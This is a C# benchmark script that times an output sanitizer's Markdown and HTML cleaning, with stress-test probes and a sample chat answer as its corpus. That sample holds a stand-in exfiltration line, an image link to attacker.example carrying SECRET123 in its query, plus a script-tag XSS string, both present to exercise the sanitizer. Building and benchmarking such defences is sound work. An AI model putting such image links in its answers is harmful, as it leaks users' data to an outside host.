using Markdig;
using System.Diagnostics;
using System.Text;
using SecureKernel;

// Stopwatch throughput of OutputSanitizer.SanitizeMarkdown / SanitizeHtml on a mixed Markdown corpus.
// Usage: dotnet run -c Release --project bench/OutputSanitizerThroughput -- [threads] [seconds] [verify:true|false] [mode:md|html|probe]
int threads = args.Length > 0 ? int.Parse(args[0]) : 1;
double seconds = args.Length > 1 ? double.Parse(args[1], System.Globalization.CultureInfo.InvariantCulture) : 5;
bool verify = args.Length <= 2 || bool.Parse(args[2]);
string mode = args.Length > 3 ? args[3] : "md";

var sanitizer = new OutputSanitizer(new OutputSanitizerOptions { AllowedHosts = { "trusted.example" }, VerifyOutput = verify });

if (mode == "probe")
{
    string[] probes =
    [
        new string('<', 50_000), string.Concat(Enumerable.Repeat("<div>", 20_000)), string.Concat(Enumerable.Repeat("> ", 5_000)) + "x",
        new string('[', 50_000) + new string(']', 50_000), string.Concat(Enumerable.Repeat("![", 10_000)), string.Concat(Enumerable.Repeat("*a ", 30_000)),
    ];
    sanitizer.SanitizeHtml("<p>warm <a href=\"https://x.example\">up</a></p>");
    sanitizer.SanitizeMarkdown("warm [up](https://x.example)");
    for (int i = 0; i < probes.Length; i++)
    {
        var sw = Stopwatch.StartNew();
        sanitizer.SanitizeHtml(probes[i]);
        long h = sw.ElapsedMilliseconds;
        sw.Restart();
        sanitizer.SanitizeMarkdown(probes[i]);
        long m = sw.ElapsedMilliseconds;
        sw.Restart();
        using (new AngleSharp.Html.Parser.HtmlParser().ParseDocument(probes[i])) { }
        long ap = sw.ElapsedMilliseconds;
        sw.Restart();
        try { Markdig.Markdown.Parse(probes[i], new Markdig.MarkdownPipelineBuilder().UsePreciseSourceLocation().UsePipeTables().UseFootnotes().UseAutoLinks().UseEmphasisExtras().Build()); } catch (ArgumentException) { }
        long mp = sw.ElapsedMilliseconds;
        sw.Restart();
        new Ganss.Xss.HtmlSanitizer().Sanitize(probes[i]);
        long hs = sw.ElapsedMilliseconds;
        Console.WriteLine($"  anglesharp parse {ap} ms, markdig parse {mp} ms, default HtmlSanitizer {hs} ms");
        Console.WriteLine($"probe {i}: {probes[i].Length} chars html {h} ms, markdown {m} ms");
    }

    return;
}

// A chat-answer-like message (~2.3 KB): headings, lists, code, a table, allowed and disallowed links and images.
const string message = """
## Quarterly summary

Revenue grew **4.2%** year over year, driven by *subscriptions* and the new `billing-v2` service.
See the [dashboard](https://trusted.example/dash?q=revenue) and the [external report](https://news.other.example/article/123).

- Churn fell to 2.1% (see https://trusted.example/churn)
- Support tickets: 1,204 (down 8%)
- Open incidents: none ![status](https://cdn.trusted.example/ok.png)

| Region | Q3 | Q4 |
|--------|---:|---:|
| EMEA   | 10 | 12 |
| APAC   |  8 |  9 |

```python
def total(xs):
    return sum(x.amount for x in xs)  # <script>alert(1)</script> stays text
```

> Note: numbers are preliminary. Reference[^1] and a chart ![chart][c].

[c]: https://attacker.example/p.png?d=SECRET123
[^1]: Finance team, internal memo.

Contact <mailto:finance@trusted.example> or visit www.other.example for more.

""";
var sb = new StringBuilder();
while (sb.Length < 64 * 1024) sb.Append(message);
string doc = sb.ToString();
double mb = Encoding.UTF8.GetByteCount(doc) / 1_000_000.0;

Func<string, SanitizedOutput> run = mode == "html" ? sanitizer.SanitizeHtml : sanitizer.SanitizeMarkdown;
string input = mode == "html" ? Markdig.Markdown.ToHtml(doc) : doc;
mb = Encoding.UTF8.GetByteCount(input) / 1_000_000.0;
for (int i = 0; i < 5; i++) run(input); // warm-up

long done = 0;
var cpu0 = System.Diagnostics.Process.GetCurrentProcess().TotalProcessorTime;
var total = Stopwatch.StartNew();
var tasks = Enumerable.Range(0, threads).Select(_ => Task.Run(() =>
{
    while (total.Elapsed.TotalSeconds < seconds)
    {
        run(input);
        Interlocked.Increment(ref done);
    }
})).ToArray();
Task.WaitAll(tasks);
double elapsed = total.Elapsed.TotalSeconds;
double cpu = (System.Diagnostics.Process.GetCurrentProcess().TotalProcessorTime - cpu0).TotalSeconds;
Console.WriteLine($"mode={mode} verify={verify} threads={threads} doc={mb * 1000:F1} KB UTF-8, calls={done}, {elapsed:F1} s, wall throughput={done * mb / elapsed:F2} MB/s, CPU {cpu:F1} s => {done * mb / cpu:F2} MB/s per CPU-second");
if (args.Length > 4)
{
    var one = run(input);
    Console.WriteLine(string.Join(",", one.Findings.Select(f => f.Detail)));
    var proc = System.Diagnostics.Process.GetCurrentProcess();
    TimeSpan c0 = proc.TotalProcessorTime;
    long Cpu() { proc.Refresh(); var now = proc.TotalProcessorTime; long ms = (long)(now - c0).TotalMilliseconds; c0 = now; return ms; }
    Cpu();
    for (int i = 0; i < 10; i++) Markdig.Markdown.Parse(input, new MarkdownPipelineBuilder().UsePreciseSourceLocation().UsePipeTables().UseFootnotes().UseAutoLinks().UseEmphasisExtras().Build());
    Console.WriteLine($"markdig parse x10: {Cpu()} ms CPU");
    for (int i = 0; i < 10; i++) Markdig.Markdown.ToHtml(one.Markdown!);
    Console.WriteLine($"markdig render x10: {Cpu()} ms CPU");
    for (int i = 0; i < 10; i++) new AngleSharp.Html.Parser.HtmlParser().ParseDocument(one.Html).Dispose();
    Console.WriteLine($"anglesharp parse x10: {Cpu()} ms CPU");
    for (int i = 0; i < 10; i++) run(input);
    Console.WriteLine($"sanitize x10: {Cpu()} ms CPU");
}
